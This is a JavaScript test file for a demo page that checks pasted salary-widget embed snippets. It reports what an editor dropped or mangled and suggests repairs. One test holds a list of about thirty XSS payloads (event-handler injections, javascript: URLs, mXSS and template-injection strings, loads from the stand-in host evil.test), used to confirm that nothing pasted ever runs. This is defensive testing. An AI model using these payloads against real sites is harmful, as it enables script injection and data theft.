/* The demo's “Check my snippet”: what was lost, what survives, and that nothing pasted is ever run. */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { demoSite } from './demo-site.mjs';

const SCRIPT =
  '<script src="https://your.site/coder-widgets.js" data-pages="https://pages.site/"></script>';
const LINK = '<a href="https://pages.site/es/salary/tx/?period=hour">Salario</a>';
const TAG = `<coder-salary lang="es" area="TX" period="hour">${LINK}</coder-salary>`;
const WHOLE = SCRIPT + TAG;

/** What came back from an editor: what is said of it, and the lines that are given. */
const PASTED = {
  'the tag was dropped': [SCRIPT + LINK, /tag <coder-salary> was dropped/, [LINK]],
  'the script was dropped': [
    TAG,
    /The script is missing/,
    [
      '<script defer src="https://your.site/coder-loader.js" data-pages="https://pages.site/"></script>',
    ],
  ],
  'the script was held back': [
    WHOLE.replace('<script', '<script type="text/plain"'),
    /held back by an optimizer/,
    [],
  ],
  'attributes were dropped': [
    WHOLE.replace(' area="TX" period="hour"', ''),
    /has dropped period, area/,
    [LINK],
  ],
  'quotes became curly': [
    WHOLE.replace('"TX"', '“TX”'),
    /area=“TX” has typographic quotes/,
    [LINK],
  ],
  'a paragraph was put into it': [WHOLE.replace(LINK, `<p>${LINK}</p>`), /put <p> into it/, [TAG]],
  'a paragraph was put around it and into it': [
    `${SCRIPT}<p>${TAG.replace(LINK, `<p>${LINK}</p>`)}</p>`,
    /its link has fallen out/,
    [TAG],
  ],
  'the link was escaped twice': [
    SCRIPT + TAG.replace('hour">S', 'hour&amp;amp;edition=newest">S'),
    /escaped twice/,
    [LINK.replace('hour', 'hour&amp;edition=newest')],
  ],
  'tracking was added': [
    SCRIPT + TAG.replace('hour">S', 'hour&utm_source=mail">S'),
    /utm_source added for tracking/,
    [LINK],
  ],
  'it is shown as text': [
    `<p>${TAG.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</p>`,
    /shown as text/,
    [LINK],
  ],
  'everything was dropped': [
    '<p>Salario</p>',
    /There is no widget/,
    ['<a href="https://pages.site/en/salary/">Medical coder salary</a>'],
  ],
  'a placeholder was left': [
    `<div data-coder-widget="salary" data-area="TX">Pay</div>`,
    /The script is missing/,
    [],
  ],
  'an attribute was misspelled': [
    WHOLE.replace('area=', 'aera='),
    /"aera" is no attribute of it/,
    [TAG.replace(' area="TX" period="hour"', ' period="hour" area="tx"')],
  ],
  'a value cannot be used': [
    WHOLE.replace('area="TX"', 'area="Atlantis"').replace('/tx/', '/atlantis/'),
    /area="Atlantis" is not US/,
    [],
  ],
  'a form was dropped to its link': [
    `${SCRIPT}<coder-apply “endpoint”="/apply"><a href="https://your.site/form">Apply</a></coder-apply>`,
    /typographic quotes/,
    ['<coder-apply><a href="https://your.site/form">Apply</a></coder-apply>'],
  ],
};

/** What would run, load or draw something if a paste were ever more than text. */
const ATTACKS = [
  '<script>attacked()</script>',
  '<img src=x onerror=attacked()>',
  '<img src="https://evil.test/pixel.png">',
  '<svg onload=attacked()><animate onbegin=attacked() attributeName=x dur=1s>',
  '<svg><script>attacked()</script></svg>',
  '<iframe srcdoc="<script>parent.attacked()</script>"></iframe>',
  '<iframe src="javascript:parent.attacked()"></iframe>',
  '<object data="javascript:attacked()"></object><embed src="javascript:attacked()">',
  '<body onload=attacked()>',
  '<details open ontoggle=attacked()>',
  '<input autofocus onfocus=attacked()>',
  '<video><source onerror=attacked()></video>',
  '<style>@import "https://evil.test/style.css"; body { display: none }</style>',
  '<link rel=stylesheet href="https://evil.test/style.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<base href="https://evil.test/">',
  '<form action="https://evil.test/"><button autofocus>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked()&gt;">',
  '</textarea><script>attacked()</script>',
  '<template><script>attacked()</script></template>',
  '<template shadowrootmode=open><img src=x onerror=attacked()></template>',
  '<coder-salary area="&quot;&gt;&lt;img src=x onerror=attacked()&gt;" onclick="attacked()" style="background:url(https://evil.test/a)" source="x" source-href="javascript:attacked()" p50="1">x</coder-salary>',
  '<coder-salary><a href="javascript:attacked()//pages.site/en/salary/tx/">x</a></coder-salary>',
  '<a href="https://pages.site/en/salary/tx/?area=%22%3E%3Cimg+src%3Dx+onerror%3Dattacked()%3E&edition=%3Cscript%3Eattacked()%3C/script%3E"><img src=x onerror=attacked()></a>',
  '<coder-apply endpoint="https://evil.test/apply" privacy-href="javascript:attacked()"><form action="https://evil.test/"><input name=a></form></coder-apply>',
  '<coder-guide widgets endpoint="https://evil.test/apply">x</coder-guide>',
  '<coder-requirements apply-href="javascript:attacked()" items-id="x"><li><img src=x onerror=attacked()></coder-requirements>',
  '<div data-coder-widget="apply" data-endpoint="https://evil.test/apply"></div>',
  '<script src="https://evil.test/coder-widgets.js" data-pages="https://evil.test/"></script><coder-timeline start="<img src=x onerror=attacked()>">x</coder-timeline>',
  '&lt;coder-salary&gt;&lt;img src=x onerror=attacked()&gt;&lt;/coder-salary&gt;',
  '${attacked()}{{constructor.constructor("attacked()")()}}',
];

describe('Check my snippet', () => {
  let site;

  before(async () => (site = await demoSite()));
  after(() => site?.close());

  const opened = async (options) => {
    const { page, ...seen } = await site.open('/check.html', options);
    const field = page.getByLabel('What the editor made of it');
    const paste = async (text) => {
      await field.fill(text);
      await page.getByText(/lost or changed|Nothing is wrong|more than this page reads/).waitFor();
    };
    return { page, field, paste, ...seen };
  };

  test('says what was lost and gives what survives', async () => {
    const { page, field, paste, complaints } = await opened();
    for (const [name, [html, words, lines]] of Object.entries(PASTED)) {
      await paste(html);
      const fault = page.locator('#faults').getByRole('listitem').filter({ hasText: words });
      await fault
        .first()
        .waitFor()
        .catch(() => assert.fail(`${name}: ${words} is not said`));
      const given = await page.locator('#repairs code').allTextContents();
      for (const line of lines) assert.ok(given.includes(line), `${name}: ${given.join('\n')}`);
      await field.fill('');
      await page.getByText('Nothing is pasted yet.').waitFor();
    }
    assert.deepEqual(
      complaints.filter((text) => !/Atlantis/.test(text)),
      [],
    );
    await page.close();
  });

  test('finds nothing wrong with what is whole, and shows what it becomes', async () => {
    const { page, paste } = await opened();
    await paste(WHOLE);
    await page.getByText('Nothing is wrong').waitFor();
    assert.equal(await page.locator('#faults li').count(), 0);
    assert.equal(await page.getByRole('heading', { name: 'Paste this instead' }).count(), 0);
    await page.locator('#preview coder-salary').getByText('Texas').first().waitFor();
    await page.close();
  });

  test('what it gives has nothing wrong, pasted again', async () => {
    const { page, field, paste } = await opened();
    for (const [name, [html, , lines]] of Object.entries(PASTED)) {
      if (!lines[0]?.startsWith('<coder-salary')) continue;
      await paste(html);
      const given = await page.locator('#repairs code').allTextContents();
      await field.fill('');
      await page.getByText('Nothing is pasted yet.').waitFor();
      await paste(SCRIPT + given.find((line) => line.startsWith('<coder-')));
      await page
        .getByText('Nothing is wrong')
        .waitFor()
        .catch(() => assert.fail(name));
    }
    await page.close();
  });

  test('nothing pasted is ever run, drawn or asked for', async () => {
    const { page, field, requests } = await opened();
    await page.evaluate(() => {
      globalThis.attacks = 0;
      globalThis.attacked = () => (globalThis.attacks += 1);
    });
    const before = await page.locator('body > *').count();
    for (const attack of [...ATTACKS, ATTACKS.join('\n')]) {
      await field.fill(attack);
      await page.getByText(/lost or changed|Nothing is wrong/).waitFor();
      await page.evaluate(
        () => new Promise((drawn) => requestAnimationFrame(() => setTimeout(drawn))),
      );
      const harm = await page.evaluate(() => [
        globalThis.attacks,
        document.querySelectorAll(
          '#verdict *, #faults :not(li, p), #repairs :not(div, p, pre, code, button, span), #preview :not(coder-salary, coder-timeline, coder-requirements, coder-guide)',
        ).length,
        document.querySelectorAll('[onerror], [onload], [onclick], [src^="https:"], [endpoint]')
          .length,
      ]);
      assert.deepEqual(harm, [0, 0, 0], attack);
      await field.fill('');
    }
    assert.equal(await page.locator('body > *').count(), before);
    const strange = requests.filter(
      (address) => !address.startsWith(site.address) && !address.startsWith('data:'),
    );
    assert.deepEqual(strange, []);
    assert.equal(new URL(page.url()).pathname, '/check.html');
    await page.close();
  });

  test('has a clear word for a megabyte, and takes the part of it', async () => {
    const { page, field, paste } = await opened();
    await field.evaluate((node) => {
      const clipboardData = new DataTransfer();
      clipboardData.setData('text/plain', 'x'.repeat(1_048_576));
      node.dispatchEvent(
        new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }),
      );
    });
    const status = page.getByRole('status').first();
    await status.getByText('That is 1.0 million letters, more than this page reads').waitFor();
    assert.equal(await field.inputValue(), '');
    await field.evaluate((node) => {
      node.value = '<p>x</p>'.repeat(200_000);
      node.dispatchEvent(new Event('input', { bubbles: true }));
    });
    await status.getByText('That is 1.6 million letters').waitFor();
    assert.equal(await page.locator('#faults li').count(), 0);
    await paste('<p>x</p>'.repeat(100_000) + WHOLE);
    await page.getByText('Nothing is wrong').waitFor();
    await page.close();
  });

  test('is worked with the keyboard alone, and copies', async () => {
    const { page, field } = await opened();
    await page.evaluate(() => {
      navigator.clipboard.writeText = async (text) => (globalThis.copied = text);
    });
    await field.focus();
    await page.keyboard.insertText(SCRIPT + LINK);
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    const copy = page.getByRole('button', { name: 'Copy: In the editor' });
    await copy.focus();
    await page.keyboard.press('Enter');
    await page.locator('#repairs').getByText('Copied.').first().waitFor();
    assert.equal(await page.evaluate(() => globalThis.copied), LINK);
    await page.close();
  });

  for (const colorScheme of ['light', 'dark']) {
    test(`axe finds nothing, and nothing is cut off at 390 px (${colorScheme})`, async () => {
      const viewport = { width: 390, height: 800 };
      const { page, paste } = await opened({ colorScheme, viewport });
      await paste(SCRIPT + LINK.repeat(2) + '<coder-salery></coder-salery>');
      assert.deepEqual(await site.axe(page), []);
      assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 390);
      await page.close();
    });
  }
});
